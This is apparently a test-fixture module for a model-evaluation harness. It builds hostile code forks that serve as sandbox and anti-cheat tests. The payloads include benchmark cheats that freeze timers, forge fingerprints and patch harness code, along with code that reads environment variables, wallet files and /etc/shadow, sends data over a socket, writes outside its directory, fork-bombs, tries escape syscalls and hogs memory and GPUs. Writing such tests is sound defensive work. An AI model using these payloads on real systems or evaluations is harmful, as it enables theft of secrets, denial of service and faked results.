"""Hostile forks for the evaluation harness's attack tests.

Each is the project's starter fork with a patch appended to ``fla/layers/quasar.py`` (``ATTACKS``:
it wraps the honest ``QuasarAttention``, or runs code at import) or to ``fla/__init__.py``
(``PACKAGE_ATTACKS``: code that runs at ``import fla``, in a file the import check does not read,
as a real fork's payload would hide), with the files ``FORK_FILES`` adds. ``write_hostile_fork``
writes one. Parameters (paths, ports, markers, sizes) are substituted as Python literals with
``repr``.
"""

from __future__ import annotations

import textwrap
from pathlib import Path

from quasar.starter_fork import copy_starter_tree

_WRAPPER = """
_HonestQuasarAttention = QuasarAttention


class QuasarAttention(_HonestQuasarAttention):
    def forward(self, hidden_states, *args, **kwargs):
{body}
"""


def _wrap(body: str) -> str:
    return _WRAPPER.format(body=textwrap.indent(textwrap.dedent(body).strip("\n"), " " * 8))


_FROZEN_TIMERS = """
import time as _time

_real_sleep = _time.sleep
_time.perf_counter = lambda: 1.0
_time.perf_counter_ns = lambda: 1_000_000_000
_time.time = lambda: 1.0
torch.cuda.synchronize = lambda *a, **k: None


class _FrozenEvent:
    def __init__(self, *a, **k): pass
    def record(self, *a, **k): pass
    def synchronize(self): pass
    def elapsed_time(self, other): return 0.001


torch.cuda.Event = _FrozenEvent
"""

ATTACKS: dict[str, str] = {
    # Skips the work and returns zeros.
    "zeros": _wrap("""
        return torch.zeros_like(hidden_states, dtype=torch.bfloat16), None, None
    """),
    # Noise with exactly the honest output's scale.
    "noise": _wrap("""
        out, attn, cache = super().forward(hidden_states, *args, **kwargs)
        return torch.randn_like(out) * out.float().std().to(out.dtype), attn, cache
    """),
    # Computes only the first half of the sequence; zeros after it.
    "first_half": _wrap("""
        half = hidden_states.shape[1] // 2
        out, attn, cache = super().forward(hidden_states[:, :half], *args, **kwargs)
        rest = out.new_zeros(out.shape[0], hidden_states.shape[1] - half, out.shape[2])
        return torch.cat([out, rest], 1), attn, cache
    """),
    # Computes once, then returns that output for every input.
    "stale_cache": _wrap("""
        if getattr(self, "_stale", None) is None:
            self._stale = super().forward(hidden_states, *args, **kwargs)
        return self._stale
    """),
    # Caches by input, paying a visible cost on a miss: fresh inputs never hit.
    "cache_by_input": _wrap("""
        import hashlib, time
        key = hashlib.sha256(hidden_states.detach().cpu().numpy().tobytes()).hexdigest()
        cache = self.__dict__.setdefault("_by_input", {})
        if key not in cache:
            time.sleep({miss_seconds})
            cache[key] = super().forward(hidden_states, *args, **kwargs)
        return cache[key]
    """),
    # Freezes every clock and timer it can reach, then takes its time on the host.
    "timers": _FROZEN_TIMERS
    + _wrap("""
    _real_sleep({sleep_seconds})
    return super().forward(hidden_states, *args, **kwargs)
"""),
    # Freezes every clock and timer it can reach, then takes its time on the GPU (a spin of the
    # given cycles, which a CUDA graph replays with the forward).
    "timers_gpu": _FROZEN_TIMERS
    + _wrap("""
    torch.cuda._sleep({gpu_cycles})
    return super().forward(hidden_states, *args, **kwargs)
"""),
    # Not an attack: an honest forward that reads a value back to the host, which no CUDA graph
    # can capture; it must be timed eagerly, with the reason in the report.
    "host_sync": _wrap("""
        out, attn, cache = super().forward(hidden_states, *args, **kwargs)
        if not bool(torch.isfinite(out).all()):
            raise FloatingPointError("non-finite output")
        return out, attn, cache
    """),
    # Floods stdout.
    "flood": _wrap("""
        import sys
        line = "x" * (1 << 20) + "\\n"
        for _ in range(100_000):
            sys.stdout.write(line)
        return super().forward(hidden_states, *args, **kwargs)
    """),
    # Never returns.
    "sleep_forever": _wrap("""
        import time
        time.sleep(3600)
    """),
    # Never returns at one length.
    "sleep_at_length": _wrap("""
        if hidden_states.shape[1] == {sleep_length}:
            import time
            time.sleep(3600)
        return super().forward(hidden_states, *args, **kwargs)
    """),
    # Leaves a background process behind: a double fork with setsid, and a new-session Popen.
    "background": """
import os as _os
import subprocess as _subprocess
import sys as _sys

_sleeper = [_sys.executable, "-c", "import time; time.sleep(600)", {marker}]
_subprocess.Popen(_sleeper, start_new_session=True)
_pid = _os.fork()
if _pid == 0:
    _os.setsid()
    if _os.fork() == 0:
        _os.execv(_sys.executable, _sleeper)
    _os._exit(0)
_os.waitpid(_pid, 0)
print("BACKGROUND-STARTED", flush=True)
""",
    # Tries to reach the network: a listener of the test's on this host, and the internet.
    "network": """
import socket as _socket

for _address in {addresses}:
    try:
        _socket.create_connection((_address, {port}), timeout=2).sendall(b"exfiltrated")
        print("NETWORK-CONNECTED", _address, flush=True)
    except OSError as _error:
        print("NETWORK-BLOCKED", _address, _error, flush=True)
try:
    _socket.create_connection(("1.1.1.1", 443), timeout=2)
    print("NETWORK-CONNECTED internet", flush=True)
except OSError as _error:
    print("NETWORK-BLOCKED internet", _error, flush=True)
""",
    # Tries to reach a Unix socket of this host's in the abstract namespace (no file: a path
    # beginning with a NUL byte), where services such as D-Bus and X11 listen beside their files.
    "abstract_socket": """
import socket as _socket

try:
    _socket.socket(_socket.AF_UNIX, _socket.SOCK_STREAM).connect("\\0" + {name})
    print("ABSTRACT-CONNECTED", flush=True)
except OSError as _error:
    print("ABSTRACT-REFUSED", _error, flush=True)
""",
    # Looks for the caller's secrets: its environment and wallet files.
    "secrets": """
import os as _os

print("ENVIRONMENT", dict(_os.environ), flush=True)
for _path in [{wallet_file}, _os.path.expanduser("~/.bittensor/wallets"), "/proc/{parent_pid}/environ",
              _os.path.join({caller_home}, ".bittensor")]:
    try:
        if _os.path.isdir(_path):
            print("LISTED", _path, _os.listdir(_path), flush=True)
        else:
            with open(_path, "rb") as _file:
                print("READ", _path, _file.read(), flush=True)
    except OSError as _error:
        print("SECRET-UNREADABLE", _path, _error, flush=True)
""",
    # Writes outside its directory: the caller's files, its own source checkout, /tmp, the system,
    # its sandboxed copy and the harness.
    "write_outside": """
import os as _os

for _path in {paths}:
    try:
        _os.makedirs(_os.path.dirname(_path), exist_ok=True)
        with open(_path, "a") as _file:
            _file.write("pwned")
        print("WROTE", _path, flush=True)
    except OSError as _error:
        print("WRITE-REFUSED", _path, _error, flush=True)
""",
    # Patches the harness's child code: after two honest forwards it skips the layer and replays
    # the last fingerprint the harness computed.
    "forge_reply": """
import sys as _sys

_workload = _sys.modules["workload"]
_honest_fingerprint = _workload.fingerprint
_forged = {"calls": 0, "last": None}


def _replayed_fingerprint(output, directions, token_weights, out=None):
    _forged["calls"] += 1
    if _forged["last"] is None or _forged["calls"] <= 2:
        _forged["last"] = _honest_fingerprint(output, directions, token_weights).clone()
    return out.copy_(_forged["last"]) if out is not None else _forged["last"].clone()


_workload.fingerprint = _replayed_fingerprint
"""
    + _wrap("""
    if _forged["calls"] >= 2:
        return torch.empty(hidden_states.shape, dtype=torch.bfloat16, device=hidden_states.device), None, None
    return super().forward(hidden_states, *args, **kwargs)
"""),
    # Computes only the first forward of each request (the harness's input function says which
    # one it is: the first has no previous fingerprint) and returns zeros for the others.
    "first_only": """
import sys as _sys

_workload = _sys.modules["workload"]
_honest_forward_input = _workload.forward_input
_position = {"first": True}


def _noting_forward_input(noise, previous):
    _position["first"] = previous is None
    return _honest_forward_input(noise, previous)


_workload.forward_input = _noting_forward_input
"""
    + _wrap("""
    if not _position["first"]:
        return torch.zeros_like(hidden_states, dtype=torch.bfloat16), None, None
    return super().forward(hidden_states, *args, **kwargs)
"""),
    # The trick against a fingerprint linear in the output: the harness's token weights are known
    # before each forward, so each eighth's weighted sum goes on its first token (a fork would get it
    # from o_proj's summed inputs, skipping o_proj over the sequence) and the rest is zeros; the whole
    # output, asked for only after the request ran, is the real one.
    "sums_on_few_tokens": """
import sys as _sys

_workload = _sys.modules["workload"]
_child = _sys.modules["__main__"]
_state = {"buffers": None, "forward": 0, "real": None}
_honest_fill, _honest_send_output = _workload.fill_request, _child.Server.send_output


def _noting_fill(buffers, input_seed, basis_seed):
    _state["buffers"], _state["forward"] = buffers, 0
    return _honest_fill(buffers, input_seed, basis_seed)


def _real_send_output(self, request):
    if self.last_output is not None:
        self.last_output = _state["real"]
    return _honest_send_output(self, request)


_workload.fill_request = _noting_fill
_child.Server.send_output = _real_send_output
"""
    + _wrap("""
    out, attn, cache = super().forward(hidden_states, *args, **kwargs)
    weights = _state["buffers"].token_weights[_state["forward"]]
    _state["forward"] += 1
    _state["real"] = out
    flat = out[0].float()
    summed = torch.zeros_like(flat)
    for row, (start, stop) in enumerate(_workload.segment_bounds(flat.shape[0])):
        summed[start] = weights[row, start] * (weights[row, start:stop] @ flat[start:stop])
    return summed.to(out.dtype)[None], attn, cache
"""),
    # Signs steered to a pattern known beforehand, so that a request's forwards could run as one
    # batch: every reported value's low 8 bits (under 3e-5 of it) chosen so that the sign rule of
    # bits 28-31 of its bits times 0x2545F491 gives +1, and each forward run on its noise alone, as
    # if every sign of its input were +1.
    "presumed_signs": """
import sys as _sys

_workload = _sys.modules["workload"]
_state = {"buffers": None, "forward": 0}
_honest_fill, _honest_fingerprint = _workload.fill_request, _workload.fingerprint


def _noting_fill(buffers, input_seed, basis_seed):
    _state["buffers"], _state["forward"] = buffers, 0
    return _honest_fill(buffers, input_seed, basis_seed)


def _steered_fingerprint(output, directions, token_weights, out=None):
    values = _honest_fingerprint(output, directions, token_weights)
    bits = values.contiguous().view(torch.int32).to(torch.int64).reshape(-1, 1) & 0xFFFFFFFF
    candidates = (bits & ~0xFF) | torch.arange(256)
    plus = (((candidates * 0x2545F491) & 0xFFFFFFFF) >> 28) == 0
    chosen = candidates.gather(1, plus.to(torch.uint8).argmax(1, keepdim=True))
    steered = torch.where(chosen >= 1 << 31, chosen - (1 << 32), chosen).to(torch.int32)
    values = steered.view(torch.float32).reshape(values.shape)
    return out.copy_(values) if out is not None else values


_workload.fill_request = _noting_fill
_workload.fingerprint = _steered_fingerprint
"""
    + _wrap("""
    noise = _state["buffers"].noise[_state["forward"]]
    _state["forward"] += 1
    return super().forward(noise[None], *args, **kwargs)
"""),
    # Patches the harness's input generation to hand the layer zeros.
    "cheap_input": """
import sys as _sys

_workload = _sys.modules["workload"]
_workload.forward_input = lambda noise, previous: torch.zeros(1, *noise.shape, device=noise.device)
""",
    # Text that attacks the report: rich markup (unbalanced, and a forged verdict) and terminal
    # escapes in the exception the forward raises.
    "markup": _wrap("""
        raise RuntimeError({text})
    """),
    # Writes a last word to stderr and exits at its first forward.
    "exit_at_forward": _wrap("""
        import os, sys
        sys.stderr.write({last_words} + "\\n")
        sys.stderr.flush()
        os._exit(3)
    """),
    # Runs out of memory at one length.
    "oom": _wrap("""
        if hidden_states.shape[1] == {oom_length}:
            raise torch.OutOfMemoryError("CUDA out of memory. Tried to allocate 64.00 GiB (simulated)")
        return super().forward(hidden_states, *args, **kwargs)
    """),
    # Asks the device for far more memory than it has at one length (a real CUDA out-of-memory).
    "hog": _wrap("""
        if hidden_states.shape[1] == {hog_length}:
            torch.empty(1 << 44, dtype=torch.uint8, device=hidden_states.device)
        return super().forward(hidden_states, *args, **kwargs)
    """),
    # Reports a peak memory of {peak} bytes, more than a float holds, with the out-of-memory error
    # its first forward raises.
    "forged_peak": """
import sys as _sys

_sys.modules["__main__"].Server.peak_bytes = lambda self: {peak}
"""
    + _wrap("""
    raise torch.OutOfMemoryError("CUDA out of memory (simulated)")
"""),
    # Fast (and wrong) only at one length.
    "wrong_at_length": _wrap("""
        if hidden_states.shape[1] == {wrong_length}:
            return torch.zeros_like(hidden_states, dtype=torch.bfloat16), None, None
        return super().forward(hidden_states, *args, **kwargs)
    """),
}


# Payloads of fla/__init__.py. Each prints what it tried and what happened, one line each, for
# the tests to read in the report's log tail.
_SYSCALL = """
import ctypes as _ctypes
import errno as _errno
import os as _os

_libc = _ctypes.CDLL(None, use_errno=True)
_libc.syscall.restype = _ctypes.c_long


def _attempt(name, *arguments):
    result = _libc.syscall(*arguments)
    if result == 0 and name.startswith("clone"):
        _os._exit(0)  # the new process, had the call succeeded
    error = _errno.errorcode.get(_ctypes.get_errno(), "?") if result < 0 else "none"
    print("SYSCALL", name, result, error, flush=True)
"""

# Reaches kda's chunk_kda at run time through a function of another module of the fork (the import
# check reads bindings, not behaviour: docs/rules.md section 4 step 2). The fork brings its own
# fla/ops/kda, a chunk_kda computing the honest output, so that without the stand-ins the
# evaluation passes (FORK_FILES).
ATTACKS["kda_through_helper"] = "\nfrom fla.modules.kernel_registry import fast_path\n" + _wrap("""
    return fast_path()(super().forward, hidden_states, *args, **kwargs)
""")

# Files an attack adds to the fork, by path.
FORK_FILES: dict[str, dict[str, str]] = {
    "kda_through_helper": {
        "fla/modules/kernel_registry.py": """
def fast_path():
    from fla.ops.kda import chunk_kda

    return chunk_kda
""",
        "fla/ops/kda/__init__.py": """
def chunk_kda(forward, *args, **kwargs):
    return forward(*args, **kwargs)
""",
    },
}

PACKAGE_ATTACKS: dict[str, str] = {
    # The timing attack of issue 32, as it beat the harness before: exact only where the correctness
    # run used to be (a request of one forward among requests of many, or the {exact_request}-th
    # request at a length, right after the warm-up, where every request is one forward) and on
    # repeated seeds; {noise} RMS noise on every other forward's output. With {eager} its forward
    # reads a value back to the host, so that no CUDA graph captures it and its Python decides at
    # every request (a graph would replay one choice).
    "sloppy_timed": """
import sys as _sys

import torch

_workload = _sys.modules["workload"]
_state = {"seen": set(), "requests": {}, "batched": set(), "exact": True}
_real_fill = _workload.fill_request


def _fill(buffers, input_seed, basis_seed):
    length, seeds = buffers.seq_len, (input_seed, basis_seed)
    made = _state["requests"][length] = _state["requests"].get(length, 0) + 1
    if buffers.count > 1:
        _state["batched"].add(length)
    one_of_many = buffers.count == 1 and length in _state["batched"]
    _state["exact"] = seeds in _state["seen"] or one_of_many or made == {exact_request}
    _state["seen"].add(seeds)
    return _real_fill(buffers, input_seed, basis_seed)


_workload.fill_request = _fill
_child = _sys.modules["__main__"]
_real_layer_forward = _child.Server.layer_forward


def _layer_forward(self, hidden):
    output = _real_layer_forward(self, hidden)
    if {eager}:
        float(output.float().sum())
    if _state["exact"]:
        return output
    scale = output.float().square().mean().sqrt()
    return output + (torch.randn_like(output.float()) * ({noise} * scale)).to(output.dtype)


_child.Server.layer_forward = _layer_forward
""",
    # Exact until the parent asks for an output at a length (the correctness request has run),
    # sloppy on every later forward there.
    "sloppy_after_check": """
import sys as _sys

import torch

_child = _sys.modules["__main__"]
_checked = set()
_real_send_output, _real_layer_forward = _child.Server.send_output, _child.Server.layer_forward


def _send_output(self, request):
    if self.last_output is not None:
        _checked.add(self.last_output.shape[1])
    return _real_send_output(self, request)


def _layer_forward(self, hidden):
    output = _real_layer_forward(self, hidden)
    if hidden.shape[1] not in _checked:
        return output
    scale = output.float().square().mean().sqrt()
    return output + (torch.randn_like(output.float()) * ({noise} * scale)).to(output.dtype)


_child.Server.send_output = _send_output
_child.Server.layer_forward = _layer_forward
""",
    # Starts processes until the sandbox's limit refuses more (each named {name} for the test to
    # count), and keeps them for {hold_seconds} s while its import goes on.
    "exhaust_processes": """
import ctypes as _ctypes
import os as _os
import time as _time

_libc = _ctypes.CDLL(None)
_started = 0
while _started < {most}:
    try:
        _pid = _os.fork()
    except OSError as _error:
        print("FORK-REFUSED after", _started, _error, flush=True)
        break
    if _pid == 0:
        _libc.prctl(15, {name}.encode(), 0, 0, 0)  # PR_SET_NAME
        _time.sleep(3600)
        _os._exit(0)
    _started += 1
_time.sleep({hold_seconds})
""",
    # Leaves a secret in the kernel keyring of its uid, for a later evaluation to read, and looks
    # for one a previous evaluation left.
    "keyring": _SYSCALL
    + """
_KEY_SPEC_USER_KEYRING = -4
_attempt("add_key", 248, b"user", b"quasar-leak", b"{secret}", len({secret}), _KEY_SPEC_USER_KEYRING)
_attempt("request_key", 249, b"user", b"quasar-leak", None, 0)
_attempt("keyctl", 250, 1, _KEY_SPEC_USER_KEYRING, 0)
""",
    # System calls a fork never needs: new namespaces, tracing, BPF, perf counters, userfaultfd,
    # io_uring, mounts, modules, secret memory.
    "syscalls": _SYSCALL
    + """
_attempt("unshare", 272, 0x10000000)
_attempt("setns", 308, 0, 0)
_attempt("clone_newuser", 56, 0x10000000 | 17, 0, 0, 0, 0)
_attempt("ptrace", 101, 0, 0, 0, 0)
_attempt("bpf", 321, 0, 0, 0)
_attempt("perf_event_open", 298, 0, 0, -1, -1, 0)
_attempt("userfaultfd", 323, 0)
_attempt("io_uring_setup", 425, 1, 0)
_attempt("mount", 165, b"none", b"/tmp", b"tmpfs", 0, 0)
_attempt("finit_module", 313, -1, b"", 0)
_attempt("clone3", 435, 0, 0)
_attempt("memfd_secret", 447, 0)
""",
    # Reads what the host's /etc and /sys say about the machine, its network and its neighbours.
    "host_files": """
import os as _os

for _path in ("/etc/hostname", "/etc/machine-id", "/etc/shadow", "/etc/ssh", "/etc/hosts", "/sys/class/net",
              "/sys/fs/cgroup", "/sys/class/dmi/id", "/sys/kernel", "/sys/devices/virtual"):
    try:
        if _os.path.isdir(_path):
            print("HOST-LISTED", _path, sorted(_os.listdir(_path)), flush=True)
        else:
            with open(_path) as _file:
                print("HOST-READ", _path, repr(_file.read(200)), flush=True)
    except OSError as _error:
        print("HOST-UNREADABLE", _path, _error.strerror, flush=True)
""",
    # Looks for the host's other GPUs (a neighbour's evaluation runs there) and keeps every GPU it
    # can reach busy for {burn_seconds} s from a process of its own, whatever CUDA_VISIBLE_DEVICES says.
    "other_gpus": """
import os as _os
import subprocess as _subprocess
import sys as _sys

print("GPU-NODES", sorted(name for name in _os.listdir("/dev") if name.startswith("nvidia")), flush=True)
_burner = (
    "import time, torch\\n"
    "count = torch.cuda.device_count()\\n"
    "print('GPUS-REACHED', count, flush=True)\\n"
    "tensors = [torch.randn(8192, 8192, device=f'cuda:{i}') for i in range(count)]\\n"
    "end = time.monotonic() + " + repr({burn_seconds}) + "\\n"
    "while time.monotonic() < end:\\n"
    "    for tensor in tensors:\\n"
    "        tensor @ tensor\\n"
    "    torch.cuda.synchronize()\\n"
)
_environment = {key: value for key, value in _os.environ.items() if key != "CUDA_VISIBLE_DEVICES"}
_environment["PYTHONPATH"] = _os.pathsep.join(_sys.path)
_subprocess.Popen([_sys.executable, "-c", _burner], env=_environment, start_new_session=True)
""",
    # Holds far more memory than the sandbox allows: anonymous memory, touched.
    "memory_hog": """
_hog = bytearray({hog_bytes})
for _offset in range(0, len(_hog), 4096):
    _hog[_offset] = 1
print("HOG-HELD", len(_hog), flush=True)
""",
    # Holds far more memory than the sandbox allows as shared memory, which is not anonymous: a
    # shared mapping ({how} "mapping", touched) or a memory file it keeps open ("memfd", written).
    "shared_memory_hog": """
import mmap as _mmap
import os as _os

if {how} == "mapping":
    _hog = _mmap.mmap(-1, {hog_bytes}, flags=_mmap.MAP_SHARED)
    for _offset in range(0, {hog_bytes}, 4096):
        _hog[_offset] = 1
else:
    _hog = _os.memfd_create("hog")
    _chunk = bytes(16 << 20)
    for _ in range({hog_bytes} // len(_chunk)):
        _os.write(_hog, _chunk)
print("HOG-HELD", flush=True)
""",
    # Holds far more memory than the sandbox allows in System V shared memory segments, each
    # detached once written (no process maps it then) and kept: {segments} of {segment_bytes}.
    "sysv_memory_hog": """
import ctypes as _ctypes

_libc = _ctypes.CDLL(None, use_errno=True)
_libc.shmat.restype = _ctypes.c_void_p
_libc.shmat.argtypes = (_ctypes.c_int, _ctypes.c_void_p, _ctypes.c_int)
_libc.shmdt.argtypes = (_ctypes.c_void_p,)
_libc.shmctl.argtypes = (_ctypes.c_int, _ctypes.c_int, _ctypes.c_void_p)
_segments = []
for _ in range({segments}):
    _segment = _libc.shmget(0, _ctypes.c_size_t({segment_bytes}), 0o1600)  # IPC_PRIVATE, IPC_CREAT
    _address = _libc.shmat(_segment, None, 0)
    _ctypes.memset(_address, 1, {segment_bytes})
    _libc.shmdt(_address)
    _segments.append(_segment)
_status = _ctypes.create_string_buffer(256)
_kept = [_segment for _segment in _segments if _libc.shmctl(_segment, 2, _status) == 0]  # IPC_STAT
print("SEGMENTS-KEPT", len(_kept), "of", len(_segments), flush=True)
""",
    # Lowers the out-of-memory killer's preference for its process (the sandbox sets 1000), so
    # that the host's killer, short of memory, would take another process (the validator's, a
    # neighbour's evaluation) before it.
    "oom_score_adj": """
try:
    with open("/proc/self/oom_score_adj", "w") as _adjust:
        _adjust.write("0")
    print("OOM-ADJ-LOWERED", flush=True)
except OSError as _error:
    print("OOM-ADJ-REFUSED", _error.strerror, flush=True)
""",
    # Imports a package of the validator's environment that is not the evaluation's.
    "foreign_import": """
__import__({module})
""",
    # Writes a frame of its own (header {header}, raw bytes) onto the harness's reply pipe at import:
    # the parent reads it as the reply to its load request.
    "forged_frame": """
import os as _os
import struct as _struct
import sys as _sys

_header = {header}
_os.write(int(_sys.argv[2]), _struct.pack(">I", len(_header)) + _header)
""",
    # Has the harness's memory replies report a peak of {peak} bytes, more than a float holds.
    "forged_memory": """
import sys as _sys

_protocol = _sys.modules["protocol"]
_real_send = _protocol.Channel.send


def _send(self, header, payload=None):
    if "allocated_bytes" in header:
        header = dict(header, peak_bytes={peak})
    return _real_send(self, header, payload)


_protocol.Channel.send = _send
""",
    # Never finishes its import.
    "hang_at_import": """
import time as _time

_time.sleep(3600)
""",
}


def write_hostile_fork(dest: Path, attack: str, **params: object) -> Path:
    """Write the starter fork's files to ``dest`` with ``attack``'s patch; returns ``dest``."""
    copy_starter_tree(dest)
    package = attack in PACKAGE_ATTACKS
    code = PACKAGE_ATTACKS[attack] if package else ATTACKS[attack]
    for name, value in params.items():
        code = code.replace("{" + name + "}", repr(value))
    target = dest / "fla" / ("__init__.py" if package else "layers/quasar.py")
    target.write_text(target.read_text() + f"\n\n# --- hostile patch: {attack} ---\n" + code)
    for path, text in FORK_FILES.get(attack, {}).items():
        (dest / path).parent.mkdir(parents=True, exist_ok=True)
        (dest / path).write_text(text.lstrip("\n"))
    return dest
